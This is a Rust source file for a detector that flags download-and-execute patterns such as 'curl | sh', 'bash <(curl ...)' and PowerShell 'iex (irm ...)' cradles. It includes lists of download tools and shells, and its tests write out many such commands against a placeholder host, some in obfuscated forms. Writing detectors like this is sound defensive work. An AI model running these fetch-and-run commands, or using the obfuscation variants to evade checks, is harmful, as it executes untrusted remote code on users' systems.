//! Downloads that a shell runs as they come: `curl … | sh` and what does the same.

/// What downloads, or decodes what cannot be read.
const SOURCES: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "fetch",
    "aria2c",
    "lynx",
    "httpie",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
    "base64",
    "xxd",
];
/// What runs its input, or an argument.
const SHELLS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "csh", "tcsh", "pwsh", "powershell", "eval", "source"];
/// What runs a text in PowerShell.
const EXPRESSIONS: &[&str] = &["iex", "invoke-expression"];
/// What runs its input when nothing else is said.
const INTERPRETERS: &[&str] = &["python", "python2", "python3", "node", "perl", "ruby", "php", "deno", "bun", "lua"];
/// What runs the command behind it.
const WRAPPERS: &[&str] = &["sudo", "env", "exec", "nohup", "command", "doas", "time", "nice", "xargs", "busybox"];
/// Bytes that are looked at around a pipe.
const AROUND_BYTES: usize = 400;
/// Bytes between a shell and the download that it runs.
const BETWEEN_BYTES: usize = 60;
/// Words between a pipe and what runs.
const WRAPPERS_MAX: usize = 6;
/// Places of one text.
const PLACES_MAX: usize = 16;

/// Where a download is piped to a shell.
pub(super) fn downloads(text: &str) -> Vec<usize> {
    let plain = Plain::of(text);
    let mut found = Vec::new();
    for (at, byte) in plain.bytes.iter().enumerate() {
        let is_run = match byte {
            b'|' => plain.is_piped(at),
            b'(' | b'`' => plain.is_substituted(at),
            _ => false,
        };
        if is_run && found.len() < PLACES_MAX {
            found.push(text.floor_char_boundary(plain.places[at]));
        }
    }
    found
}

/// A text in lower case without what a shell drops: quotes, backslashes, ends of lines.
struct Plain {
    bytes: Vec<u8>,
    /// Where each stands in the text.
    places: Vec<usize>,
}

impl Plain {
    fn of(text: &str) -> Self {
        let kept = text.bytes().enumerate().filter(|(_, byte)| !matches!(byte, b'\'' | b'"' | b'\\'));
        let (places, bytes) = kept.map(|(at, byte)| (at, byte.to_ascii_lowercase())).unzip();
        Self { bytes, places }
    }

    fn words(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
        bytes.split(|byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.')))
    }

    fn has_source(bytes: &[u8]) -> bool {
        Self::words(bytes).any(|word| {
            // `$client.DownloadString(`.
            let last = word.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
            is_in(SOURCES, word) || is_in(SOURCES, last)
        })
    }

    /// Is this pipe between a download and what runs it?
    fn is_piped(&self, at: usize) -> bool {
        let (before, after) = (&self.bytes[..at], &self.bytes[at + 1..]);
        // `key: |` of YAML, and `||`.
        let is_block = before.trim_ascii_end().ends_with(b":")
            && after.first().is_some_and(|byte| matches!(byte, b'\n' | b'\r' | b'-' | b'+'));
        if is_block || after.first() == Some(&b'|') || before.last() == Some(&b'|') {
            return false;
        }
        runs_input(&after[..after.len().min(AROUND_BYTES)]) && Self::has_source(self.command_before(at))
    }

    /// The pipeline that ends there.
    fn command_before(&self, at: usize) -> &[u8] {
        let before = &self.bytes[at.saturating_sub(AROUND_BYTES)..at];
        let from = before.windows(2).rposition(|pair| pair == b"\n\n" || pair == b"&&" || pair == b"||");
        let before = &before[from.map_or(0, |from| from + 2)..];
        let from = before.iter().rposition(|byte| *byte == b';');
        &before[from.map_or(0, |from| from + 1)..]
    }

    /// Is it `<(curl …)`, `$(curl …)`, `` `curl …` `` or `(irm …)`, run by a shell?
    fn is_substituted(&self, at: usize) -> bool {
        let after = self.bytes[at + 1..].trim_ascii_start();
        let inner = Self::words(&after[..after.len().min(BETWEEN_BYTES)]).next().unwrap_or_default();
        let before = &self.bytes[at.saturating_sub(BETWEEN_BYTES)..at];
        let before = before.rsplit(|byte| matches!(byte, b'\n' | b';' | b'&')).next().unwrap_or_default();
        // `iex ((New-Object Net.WebClient).DownloadString(…))`: the parenthesis that counts is the last.
        if !is_in(SOURCES, inner) && !before.ends_with(b"downloadstring") {
            return false;
        }
        let mut words = Self::words(before).filter(|word| !word.is_empty());
        match (self.bytes[at], before.last()) {
            (b'`', _) => words.last().is_some_and(|word| matches!(word, b"eval" | b"source" | b"-c")),
            (_, Some(b'$' | b'<')) => {
                words.any(|word| is_in(SHELLS, word) || is_in(INTERPRETERS, word)) || before.starts_with(b". <")
            }
            _ => words.any(|word| is_in(EXPRESSIONS, word)),
        }
    }
}

fn is_in(names: &[&str], word: &[u8]) -> bool {
    names.iter().any(|name| name.as_bytes() == word)
}

/// Does the command run its input?
fn runs_input(command: &[u8]) -> bool {
    let mut rest = command;
    for _ in 0..WRAPPERS_MAX {
        rest = rest.trim_ascii_start();
        let end = rest.iter().position(|byte| byte.is_ascii_whitespace() || b";|&)]}`,><".contains(byte));
        let (word, behind) = rest.split_at(end.unwrap_or(rest.len()));
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let name = name.strip_suffix(b".").unwrap_or(name);
        let name = name.strip_suffix(b".exe").unwrap_or(name);
        if is_in(SHELLS, name) || is_in(EXPRESSIONS, name) {
            return true;
        }
        if is_in(INTERPRETERS, name) {
            // With arguments it runs those, and the input is data.
            let arguments = behind.strip_prefix(b" ").unwrap_or_default().trim_ascii_start();
            let is_stdin =
                arguments.strip_prefix(b"-").is_some_and(|rest| !rest.first().is_some_and(u8::is_ascii_graphic));
            return is_stdin || arguments.first().is_none_or(|byte| b";|&)]}`><".contains(byte));
        }
        if !is_in(WRAPPERS, name) && !name.starts_with(b"-") && !word.contains(&b'=') {
            return false;
        }
        rest = behind;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn downloads_that_a_shell_runs_are_found() {
        for text in [
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- https://x.example/i | sudo -E bash -s -- --yes",
            "CURL https://x.example|SH",
            "curl https://x.example \\\n  | tee log \\\n  | /bin/bash",
            "run: >\n  curl https://x.example\n  | zsh",
            "bash <(curl -s https://x.example)",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "eval \"$(wget -qO- https://x.example)\"",
            "eval `curl https://x.example`",
            "source <(curl https://x.example)",
            ". <(curl https://x.example)",
            "irm https://x.example | iex",
            "iex (irm https://x.example)",
            "iex ((New-Object Net.WebClient).DownloadString('https://x.example'))",
            "c''url https://x.example | b\"as\"h",
            "curl${IFS}https://x.example|env FOO=1 sh",
            "curl https://x.example | python3 -",
            "curl https://x.example | python3",
            "echo aGk= | base64 -d | sh",
            "python3 -c \"$(curl https://x.example)\"",
        ] {
            assert_eq!(downloads(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn other_pipes_are_left_alone() {
        for text in [
            "curl https://x.example | jq .name",
            "curl https://x.example | python3 -m json.tool",
            "curl https://x.example | python3 -c 'import json'",
            "curl https://x.example || sh fallback.sh",
            "description: uses curl\nrun: |\n  bash build.sh",
            "curl https://x.example; ls | sh",
            "cat install.sh | sh",
            "curl https://x.example | shasum -a 256",
            "curl https://x.example | tee x.sh",
            "x=$(curl https://x.example)",
            "Use `curl` in bash, or bash (curl, jq)",
            "In bash: `curl https://x.example`",
            "./install.sh $(curl https://x.example)",
            "Fetch (base64) text with a shell",
            "|",
            "curl |",
            "",
        ] {
            assert_eq!(downloads(text), [0; 0], "{text}");
        }
    }
}
